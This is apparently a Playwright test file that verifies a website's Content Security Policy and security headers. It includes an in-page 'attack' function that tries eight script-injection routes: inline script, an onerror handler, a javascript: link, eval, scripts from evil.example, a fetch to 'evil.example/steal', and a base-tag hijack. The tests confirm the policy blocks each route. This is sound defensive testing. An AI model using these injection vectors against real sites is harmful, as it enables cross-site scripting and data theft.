import { createHash } from 'node:crypto';
import { expect, test } from './test.ts';
import { startSite } from '../site/start-site.ts';
import { PAGE_ROUTES } from './routes.ts';
import { showUp, untilHydrated, watchPage } from './watch-page.ts';

const WRONG_ADDRESSES = ['/nowhere', '/case-studies/nobody', '/blog/nothing'];
/** The ways that run something; the eighth moves the base of all addresses. */
const WAYS_TO_RUN = [
  'eval',
  'foreign fetch',
  'foreign script',
  'handler',
  'inline script',
  'javascript: link',
  'script of this origin',
];
const FILTERED = [
  '/case-studies?category=Escape%20Room',
  '/blog?q=rain',
  '/case-studies?test-mode=true',
  '/get-a-quote?step=people',
];

test.describe('the policy of every page', () => {
  for (const route of [...PAGE_ROUTES, ...FILTERED, ...WRONG_ADDRESSES]) {
    test(`${route} has one strict policy, hydrates and violates nothing`, async ({ page, request }) => {
      const answer = await request.get(route);
      const policies = answer.headersArray().filter(({ name }) => name.toLowerCase() === 'content-security-policy');
      expect(policies).toHaveLength(1);
      const policy = policies[0]!.value;
      expect(policy).toMatch(/^default-src 'none'; script-src 'self'/);
      expect(policy).not.toMatch(/unsafe-inline|unsafe-eval/);
      expect(policy).toContain("require-trusted-types-for 'script'");
      expect(policy.length).toBeLessThanOrEqual(4096);

      const watch = watchPage(page);
      await page.goto(route);
      await showUp(page);
      await untilHydrated(page);
      const expected = WRONG_ADDRESSES.includes(route) ? /status of 404|^404 / : /^$/;
      expect(watch.errors.filter((error) => !expected.test(error))).toEqual([]);
    });
  }
});

test('client navigation from page to page violates nothing', async ({ page }) => {
  test.setTimeout(120_000);
  const watch = watchPage(page);
  await page.goto('/about');
  await showUp(page);
  await untilHydrated(page);
  for (const route of [...PAGE_ROUTES, '/about']) {
    await page.evaluate(
      (href) => (window as unknown as { next: { router: { push: (href: string) => void } } }).next.router.push(href),
      route,
    );
    await page.waitForURL((url) => url.pathname === route);
    await expect(page.locator('h1').first()).toBeVisible();
  }
  expect(watch.errors).toEqual([]);
});

test('answers that are no pages are closed, too, and every answer carries the other headers', async ({ request }) => {
  for (const path of [
    '/',
    '/api/health',
    '/sitemap.xml',
    '/feed.xml',
    '/robots.txt',
    '/manifest.webmanifest',
    '/nowhere',
  ]) {
    const headers = (await request.get(path)).headers();
    expect(headers['content-security-policy'], path).toMatch(/^default-src 'none'/);
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-embedder-policy': 'credentialless',
      'origin-agent-cluster': '?1',
      'x-permitted-cross-domain-policies': 'none',
    });
    expect(headers['permissions-policy'], path).toContain('camera=()');
    expect(headers, path).not.toHaveProperty('x-powered-by');
    expect(headers, path).not.toHaveProperty('x-rendered-at');
  }
  expect((await request.get('/')).headers()['cross-origin-resource-policy']).toBe('same-origin');
  expect((await request.get('/art/og/home.png')).headers()['cross-origin-resource-policy']).toBe('cross-origin');
});

test('a hashed file carries what counts for files', async ({ request }) => {
  const page = await (await request.get('/')).text();
  const font = /href="([^"]+\.woff2)"/.exec(page)?.[1] ?? '';
  const headers = (await request.get(font)).headers();
  expect(headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'cross-origin-resource-policy': 'same-origin' });
  expect(headers).not.toHaveProperty('permissions-policy');
});

test.describe('an attacker', () => {
  test.use({ mayViolate: true });

  test.beforeEach(async ({ context }) => {
    const script = (name: string) => ({
      contentType: 'text/javascript',
      headers: { 'Access-Control-Allow-Origin': '*' },
      body: `hit('${name}')`,
    });
    await context.route('https://evil.example/**', (route) => route.fulfill(script('foreign script')));
    await context.route('**/art/evil.js', (route) => route.fulfill(script('script of this origin')));
  });

  for (const isHydrated of [false, true]) {
    test(`gets nowhere in eight ways ${isHydrated ? 'with React' : 'in plain HTML'}`, async ({ page }) => {
      await page.goto('/about');
      if (isHydrated) {
        await showUp(page);
        await untilHydrated(page);
      }
      expect(await page.evaluate(attack, { seconds: 1 })).toEqual({ ran: [], base: new URL(page.url()).origin });
    });
  }

  test('would get in all eight ways without a policy', async ({ page }) => {
    // A second server has to start, and its first answers are slow.
    test.setTimeout(120_000);
    const site = await startSite({ env: { PAGE_CACHE: 'off' } });
    try {
      await page.goto(`${site.origin}/about`);
      const { ran, base } = await page.evaluate(attack, { seconds: 20 });
      expect(ran.toSorted()).toEqual(WAYS_TO_RUN);
      expect(base).toBe('https://evil.example');
    } finally {
      site.stop();
    }
  });
});

test('the hashes in the policy are those of the scripts in the page', async ({ request }) => {
  const answer = await request.get('/');
  const html = await answer.text();
  const inline = [...html.matchAll(/<script(?![^>]* (?:src=|type="application))[^>]*>([\s\S]*?)<\/script>/g)].map(
    ([, code = '']) => code,
  );
  const hashes = inline.map((code) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`);
  const allowed = /script-src 'self' ([^;]*)/.exec(answer.headers()['content-security-policy'] ?? '')?.[1]?.split(' ');
  expect(allowed?.toSorted()).toEqual([...new Set(hashes)].toSorted());
});

/** Runs in the page: tries each way in, and tells which of them ran: at once when all did, or when the time is over. */
async function attack({ seconds }: { seconds: number }): Promise<{ ran: string[]; base: string }> {
  const ran: string[] = [];
  Object.assign(window, { hit: (name: string) => ran.push(name) });
  const attempt = async (way: () => unknown) => {
    try {
      await way();
    } catch {
      // Refused is what it should be.
    }
  };
  const script = (change: (element: HTMLScriptElement) => void) => () => {
    const element = document.createElement('script');
    change(element);
    document.body.append(element);
  };
  await attempt(script((element) => (element.text = "hit('inline script')")));
  await attempt(
    () =>
      (document.body.appendChild(document.createElement('div')).innerHTML = `<img src="/x" onerror="hit('handler')">`),
  );
  await attempt(() => {
    const link = document.createElement('a');
    link.href = "javascript:hit('javascript: link')";
    document.body.append(link);
    link.click();
  });
  // Later, because the browser's own tools are free to compile.
  setTimeout(() => attempt(() => (0, eval)("hit('eval')")));
  await attempt(script((element) => (element.src = 'https://evil.example/x.js')));
  await attempt(script((element) => (element.src = '/art/evil.js')));
  await attempt(async () => {
    await fetch('https://evil.example/steal', { mode: 'no-cors' });
    ran.push('foreign fetch');
  });
  await attempt(() => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
  });
  for (const end = Date.now() + seconds * 1_000; ran.length < 7 && Date.now() < end;)
    await new Promise((resolve) => setTimeout(resolve, 50));
  return { ran, base: new URL(document.baseURI).origin };
}
